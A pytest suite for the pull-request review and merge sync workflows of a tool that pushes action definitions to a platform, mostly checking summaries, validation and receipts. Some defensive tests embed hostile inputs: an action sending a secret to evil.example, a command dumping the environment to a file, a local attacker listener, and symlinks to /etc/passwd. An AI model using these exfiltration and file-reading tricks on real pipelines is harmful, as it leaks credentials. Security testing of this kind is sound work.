"""The jobs for pull requests and for merges, step by step, with a git repository and a platform."""

from __future__ import annotations

import json
import shutil
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from html import unescape
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.model.evidence_samples import evidence
from tests.scenarios.desk import REPOSITORY, Desk, action
from tests.workflows.runner import Job, Runner, git, load
from toolkit.app.exercise import subject_of
from toolkit.model.document import comparable, texts, to_document
from toolkit.model.evidence import proven_digest
from toolkit.model.text import secret_refs
from toolkit.workspace.evidence_files import write_evidence
from toolkit.workspace.load import open_workspace
from toolkit.workspace.secrets import variable_name

REVIEW, SYNC = "actions-review.yml", "actions-sync.yml"
CLIENT_ID = "secrets.AJO_SECRET_PLATFORM_CLIENT_ID"
CLIENT_SECRET = "secrets.AJO_SECRET_PLATFORM_CLIENT_SECRET"


@dataclass(slots=True)
class Project:
    """A repository with definitions, on `desk`'s platform; jobs run on machines of their own."""

    desk: Desk
    machines: Path
    secrets: dict[str, str] = field(default_factory=dict)

    @property
    def root(self) -> Path:
        return self.desk.root

    def commit(self, message: str = "A change") -> str:
        git(self.root, "add", "--all")
        git(self.root, "commit", "--quiet", "--message", message)
        return git(self.root, "rev-parse", "HEAD")

    def review(self, change: str, base: str) -> Job:
        return self._machine(change, {"github.event.pull_request.base.sha": base}).run(REVIEW, "review")

    def sync(self, commit: str) -> Job:
        return self._machine(commit, {}).run(SYNC, "sync")

    def _machine(self, commit: str, context: dict[str, str]) -> Runner:
        number = len(list(self.machines.iterdir()))
        platform = {
            "vars.AJO_TARGET": "here",
            CLIENT_ID: self.desk.running.client_id,
            CLIENT_SECRET: self.desk.running.client_secret,
            "github.token": "made-up",
        }
        return Runner(self.root, self.machines / str(number), commit, {**platform, **self.secrets, **context})


def project_settings(desk: Desk, **changes: Any) -> None:
    desk.settings(
        client_id="${secret:platform/client-id}",
        client_secret="${secret:platform/client-secret}",
        **{"secrets": "environment", **changes},
    )


@pytest.fixture
def project(desk: Desk, tmp_path: Path) -> Project:
    """A repository whose one commit holds settings and one action."""
    (tmp_path / "machines").mkdir()
    made = Project(desk, tmp_path / "machines")
    project_settings(desk)
    desk.write(action("Hello"))
    git(desk.root, "init", "--quiet")
    return made


@pytest.fixture
def listener() -> Iterator[tuple[str, list[bytes]]]:
    """A stranger on this machine: its address, and everything it is sent."""
    heard: list[bytes] = []

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("content-length", 0)))
            heard.append(str(self.headers).encode() + body)
            self.send_error(404)

        do_GET = do_PUT = do_POST  # noqa: N815  # names that http.server looks for

        def log_message(self, *args: object) -> None:
            """Say nothing."""

    with HTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
        thread.start()
        yield f"http://127.0.0.1:{server.server_address[1]}", heard
        server.shutdown()
        thread.join()


def test_a_review_shows_in_its_summary_what_a_merge_would_do_and_writes_nothing(project: Project) -> None:
    base = project.commit()
    project.desk.write(action("Second"))
    job = project.review(project.commit(), base)
    assert job.succeeded, job.log
    assert "### 2 definitions: 0 errors, 0 warnings" in job.summary
    assert "### Target `here`: Ready" in job.summary
    assert "**create** custom action `Second`" in job.summary
    assert project.desk.requests()
    assert project.desk.writes() == []


def test_a_review_shows_the_definitions_of_the_change_alone(project: Project) -> None:
    project.desk.write(action("Removed"))
    base = project.commit()
    (project.root / "actions/team/Removed.json").unlink()
    job = project.review(project.commit(), base)
    assert job.succeeded, job.log
    assert "Removed" not in job.summary


def leave_evidence(project: Project) -> None:
    """The record of an exercise of Hello as its definition is now."""
    _, target = open_workspace(project.root).target("here")
    definition = subject_of(open_workspace(project.root), "here", "Hello").definition
    made = evidence(
        action="Hello",
        organisation=target.organisation,
        sandbox=target.sandbox,
        definition=proven_digest(comparable(definition)),
        exercised_at=datetime.now(UTC),
    )
    write_evidence(project.root, made)


def test_a_review_of_an_untested_change_fails_until_the_change_brings_evidence(project: Project) -> None:
    project_settings(project.desk, evidence="required")
    base = project.commit()
    project.desk.write(action("Hello", request={"new": 1}))
    project_settings(project.desk)  # the change itself can't lift the demand
    job = project.review(project.commit(), base)
    assert job.failed_at == ["Diff"]
    assert "### Target `here`: Blocked" in job.summary
    assert "AJO640" in job.summary
    assert "Hello: there is no evidence" in job.log
    leave_evidence(project)
    job = project.review(project.commit(), base)
    assert job.succeeded, job.log
    assert "Evidence: exercised on" in job.summary
    assert project.desk.writes() == []


def test_a_merge_of_an_untested_change_is_not_synced(project: Project) -> None:
    project_settings(project.desk, evidence="required")
    job = project.sync(project.commit())
    assert job.failed_at == ["Sync"]
    assert "error AJO640" in job.log
    assert project.desk.writes() == []
    leave_evidence(project)
    assert project.sync(project.commit()).succeeded


def test_a_review_of_a_wrong_definition_fails_at_validate_with_its_findings_in_the_summary(
    project: Project,
) -> None:
    base = project.commit()
    project.desk.write(action("bad-name"))
    job = project.review(project.commit(), base)
    assert job.failed_at == ["Validate"]
    assert job.steps["Diff"].exit is None
    assert "### 2 definitions: 1 error, 0 warnings" in job.summary
    assert "AJO200" in job.summary
    assert project.desk.requests() == []


def test_a_review_says_what_is_wrong_beside_the_line_of_the_pull_request(project: Project) -> None:
    base = project.commit()
    project.desk.write(action("bad-name"))
    job = project.review(project.commit(), base)
    (annotation,) = (line for line in job.log.splitlines() if line.startswith("::"))
    assert annotation.startswith("::error file=actions/team/bad-name.json,line=5,col=11,title=AJO200::")


def test_a_review_that_can_not_read_the_platform_fails_at_diff(project: Project) -> None:
    project.secrets[CLIENT_SECRET] = "outdated"
    base = project.commit()
    project.desk.write(action("Second"))
    job = project.review(project.commit(), base)
    assert job.failed_at == ["Diff"]
    assert "AJO401" in job.steps["Diff"].said


def test_an_address_in_a_pull_request_gets_no_credentials(
    project: Project, listener: tuple[str, list[bytes]]
) -> None:
    stranger, heard = listener
    base = project.commit()
    project_settings(
        project.desk, base_url=f"{stranger}/api", ims_url=stranger, journeys_url=f"{stranger}/ajo"
    )
    job = project.review(project.commit(), base)
    assert job.succeeded, job.log
    assert heard == []
    assert project.desk.requests()


def test_a_review_says_in_its_summary_which_settings_and_waivers_the_change_has(project: Project) -> None:
    base = project.commit()
    project_settings(project.desk, on_drift="keep")
    (project.root / "ajo-waivers.json").write_text('{"formatVersion": 1, "waivers": []}')
    job = project.review(project.commit(), base)
    assert job.succeeded, job.log
    summary = unescape(job.summary)
    assert f'targets.here.on-drift: "keep" in the change; nothing at {base[:12]}' in summary
    assert "the change has other waivers" in summary


def test_a_pull_request_that_changes_everything_about_secrets_gets_none(
    project: Project, listener: tuple[str, list[bytes]], tmp_path: Path
) -> None:
    stranger, heard = listener
    spied = tmp_path / "spied"
    keyed = {
        "method": "POST",
        "url": "https://hello.example.com/v1",
        "headers": {"X-Key": "${secret:team/key}"},
    }
    bound = 'secret-hosts = { "team/*" = ["hello.example.com"], "platform/*" = [] }\n'
    settings = project.root / "ajo.toml"
    settings.write_text(settings.read_text() + bound)
    project.desk.write(action("Hello", endpoint=keyed))
    base = project.commit()
    spying = json.dumps(["sh", "-c", f"env > {spied}; echo x", "{path}"])
    lines = project.desk.target_lines(base_url=f"{stranger}/api", ims_url=stranger).replace(
        '{ from = "made-up" }', f'{{ from = "command", command = {spying} }}'
    )
    settings.unlink()
    (project.root / "pyproject.toml").write_text(
        '[tool.ajo]\ndefault-target = "here"\n[tool.ajo.targets.here]\n'
        + lines
        + 'secret-hosts = { "team/*" = ["evil.example", "hello.example.com"] }\n'
    )
    project.desk.write(action("Thief", endpoint={**keyed, "url": "https://evil.example/v1"}))
    job = project.review(project.commit(), base)
    assert (heard, spied.exists()) == ([], False)
    assert not job.succeeded
    assert "AJO342" in job.log
    assert project.desk.writes() == []


def test_the_stranger_would_have_heard_the_secret_from_settings_that_were_merged(
    project: Project, listener: tuple[str, list[bytes]]
) -> None:
    stranger, heard = listener
    project_settings(project.desk, ims_url=stranger)
    job = project.sync(project.commit())
    assert not job.succeeded
    assert any(project.desk.running.client_secret.encode() in request for request in heard)


def test_settings_beside_the_definitions_of_a_pull_request_count_for_nothing(
    project: Project, listener: tuple[str, list[bytes]]
) -> None:
    stranger, heard = listener
    base = project.commit()
    lines = project.desk.target_lines(ims_url=stranger, client_secret="${secret:platform/client-secret}")
    for place in ("actions/ajo.toml", "actions/team/ajo.toml", "actions/pyproject.toml"):
        (project.root / place).write_text(f"[targets.here]\n{lines}")
    job = project.review(project.commit(), base)
    assert job.succeeded, job.log
    assert heard == []


@pytest.mark.parametrize(
    "link",
    ["/etc/passwd", "../../../trusted/ajo.toml", "../../../../summary.md"],
    ids=["far", "beside", "out"],
)
def test_a_link_in_a_pull_request_shows_nothing_of_the_machine(project: Project, link: str) -> None:
    base = project.commit()
    (project.root / "actions/team/Link.json").symlink_to(link)
    job = project.review(project.commit(), base)
    assert job.failed_at
    assert "root:" not in job.log + job.summary
    assert "client-secret" not in job.summary


def test_a_pull_request_that_removes_all_definitions_is_no_surprise(project: Project) -> None:
    base = project.commit()
    shutil.rmtree(project.root / "actions")
    job = project.review(project.commit(), base)
    assert job.failed_at
    assert project.desk.writes() == []


def test_a_merge_syncs_and_keeps_its_receipt(project: Project) -> None:
    job = project.sync(project.commit())
    assert job.succeeded, job.log
    assert list(project.desk.live()) == ["Hello"]
    assert "### Sync of `here`: complete" in job.summary
    receipt = json.loads(job.artifacts["receipt"].read_text())
    assert (receipt["complete"], receipt["approvedBy"]) == (True, "octocat")


def test_a_second_run_of_a_merge_does_nothing(project: Project) -> None:
    commit = project.commit()
    project.sync(commit)
    before = project.desk.writes()
    job = project.sync(commit)
    assert job.succeeded, job.log
    assert project.desk.writes() == before
    assert "nothing to do, 1 unchanged" in job.summary


def test_a_merge_of_a_wrong_definition_fails_at_validate_and_writes_nothing(project: Project) -> None:
    project.desk.write(action("bad-name"))
    job = project.sync(project.commit())
    assert job.failed_at == ["Validate"]
    assert "AJO200" in job.summary
    assert project.desk.requests() == []


def test_a_merge_that_fails_half_way_fails_the_job_and_leaves_its_receipt(project: Project) -> None:
    project.desk.call("POST", "actions", {"name": "Taken", "actionType": "campaignClassic"})
    project.desk.write(action("Taken"))
    job = project.sync(project.commit())
    assert job.failed_at == ["Sync"]
    receipt = json.loads(job.artifacts["receipt"].read_text())
    assert {row["name"]: row["status"] for row in receipt["rows"]} == {"Hello": "done", "Taken": "failed"}
    assert "### Sync of `here`: not complete" in job.summary


def test_a_merge_that_is_refused_fails_the_job_and_says_why(project: Project) -> None:
    commit = project.commit()
    project.sync(commit)
    project.desk.add_journey("Hello")
    project.desk.write(action("Hello", request={"template": "other"}))
    job = project.sync(project.commit())
    assert job.failed_at == ["Sync"]
    assert "AJO603" in job.steps["Sync"].said
    assert job.artifacts == {}


def test_a_merge_without_its_secrets_fails_before_anything_is_written(project: Project) -> None:
    key = {"type": "apiKey", "name": "X-Key", "value": "${secret:nobody/set-it}", "location": "header"}
    project.desk.write(action("Keyed", authentication=key))
    job = project.sync(project.commit())
    assert job.failed_at == ["Sync"]
    assert "AJO_SECRET_NOBODY_SET_IT" in job.steps["Sync"].said
    assert project.desk.writes() == []


def test_the_shipped_definitions_merge_with_the_secrets_that_the_workflow_hands_on(project: Project) -> None:
    shutil.rmtree(project.root / "actions")
    shutil.copytree(REPOSITORY / "actions", project.root / "actions")
    project_settings(project.desk, values=open_workspace(REPOSITORY).target("local")[1].values)
    handed_on = {
        name: f"made-up {name}"
        for step in load(SYNC)["jobs"]["sync"]["steps"]
        for name in map(expression_name, step.get("env", {}).values())
        if name.startswith("secrets.") and name not in (CLIENT_ID, CLIENT_SECRET)
    }
    project.secrets.update(handed_on)
    job = project.sync(project.commit())
    assert job.succeeded, job.log
    assert len(project.desk.live()) >= 6


def expression_name(text: str) -> str:
    return text.removeprefix("${{").removesuffix("}}").strip()


def shipped_secrets() -> set[str]:
    """The environment variables of all secrets that the shipped definitions refer to."""
    return {
        variable_name(reference, "AJO_SECRET_")
        for item in open_workspace(REPOSITORY).definitions
        for _, text in texts(item.definition.kind, to_document(item.definition))
        for reference in secret_refs(text)
    }


def test_the_merge_job_hands_on_exactly_the_secrets_that_the_shipped_definitions_need() -> None:
    (step,) = [step for step in load(SYNC)["jobs"]["sync"]["steps"] if step.get("name") == "Sync"]
    platform = {"AJO_SECRET_PLATFORM_CLIENT_ID", "AJO_SECRET_PLATFORM_CLIENT_SECRET"}
    assert set(step["env"]) == {"AJO_TARGET"} | platform | shipped_secrets()
    for name, expression in step["env"].items():
        assert expression_name(expression) == f"{'vars' if name == 'AJO_TARGET' else 'secrets'}.{name}"


def test_only_the_steps_that_call_the_platform_see_secrets() -> None:
    for workflow, job, allowed in ((REVIEW, "review", "Diff"), (SYNC, "sync", "Sync")):
        definition = load(workflow)["jobs"][job]
        assert "secrets." not in json.dumps({**definition, "steps": []})
        for step in definition["steps"]:
            assert step.get("name") == allowed or "secrets." not in json.dumps(step)


def test_a_review_never_sees_the_secrets_of_partners() -> None:
    (step,) = [step for step in load(REVIEW)["jobs"]["review"]["steps"] if step.get("name") == "Diff"]
    assert not set(step["env"]) & shipped_secrets()


@pytest.mark.parametrize("workflow", [REVIEW, SYNC])
def test_a_failing_command_before_a_pipe_fails_its_step(workflow: str) -> None:
    whole = load(workflow)
    assert whole["defaults"]["run"]["shell"] == "bash"
    for job in whole["jobs"].values():
        assert all(step.get("shell", "bash") == "bash" for step in job["steps"])


def test_a_review_may_only_read_the_repository_and_keeps_no_credentials_for_it() -> None:
    whole = load(REVIEW)
    assert whole["permissions"] == {"contents": "read"}
    for step in whole["jobs"]["review"]["steps"]:
        if "checkout" in step.get("uses", ""):
            assert step["with"]["persist-credentials"] is False


def test_a_merge_may_write_contents_alone_for_it_pushes_its_reference() -> None:
    assert load(SYNC)["permissions"] == {"contents": "write"}


def test_a_merge_pushes_the_reference_and_the_next_one_deletes_what_left_the_files(project: Project) -> None:
    project.desk.write(action("Second"))
    first = project.commit()
    assert project.sync(first).succeeded
    assert git(project.root, "rev-parse", "refs/ajo/synced/here") == first

    (project.root / "actions/team/Second.json").unlink()
    settings = (project.root / "ajo.toml").read_text()
    (project.root / "ajo.toml").write_text(f"{settings}allow-destroy = true\n")
    later = project.commit()
    job = project.sync(later)
    assert job.succeeded, job.log
    assert list(project.desk.live()) == ["Hello"]
    assert git(project.root, "rev-parse", "refs/ajo/synced/here") == later


def test_a_merge_that_would_delete_is_refused_where_the_target_does_not_allow_it(project: Project) -> None:
    project.desk.write(action("Second"))
    first = project.commit()
    project.sync(first)
    (project.root / "actions/team/Second.json").unlink()
    job = project.sync(project.commit())
    assert job.failed_at == ["Sync"]
    assert "AJO604" in job.log
    assert git(project.root, "rev-parse", "refs/ajo/synced/here") == first


def test_a_review_shows_drift_as_drift(project: Project) -> None:
    base = project.commit()
    project.sync(base)
    found = project.desk.live()["Hello"]
    project.desk.call("PUT", f"actions/{found['uid']}", {**found, "description": "Edited in the product."})
    project.desk.write(action("Second"))
    job = project.review(project.commit(), base)
    assert job.succeeded, job.log
    assert "`description` **drift**" in job.summary


def test_a_review_is_never_started_with_the_rights_of_the_base_branch() -> None:
    whole: dict[Any, Any] = load(REVIEW)
    assert set(whole[True]) == {"pull_request"}  # YAML 1.1 reads the key "on" as true.


def test_a_sync_job_holds_the_targets_lease_and_gives_it_back(project: Project) -> None:
    project_settings(project.desk, lease="origin")
    hook = project.root / ".git/hooks/post-receive"
    pushed = project.machines.parent / "pushed"
    hook.write_text(f"#!/bin/sh\nwhile read old new name; do echo $name >> {pushed}; done\n")
    hook.chmod(0o755)
    job = project.sync(project.commit())
    assert job.succeeded, job.log
    lease, synced = "refs/ajo/lease/here", "refs/ajo/synced/here"
    assert pushed.read_text().split() == [lease, synced, lease]
    assert git(project.root, "for-each-ref", "--format=%(refname)", "refs/ajo/") == synced
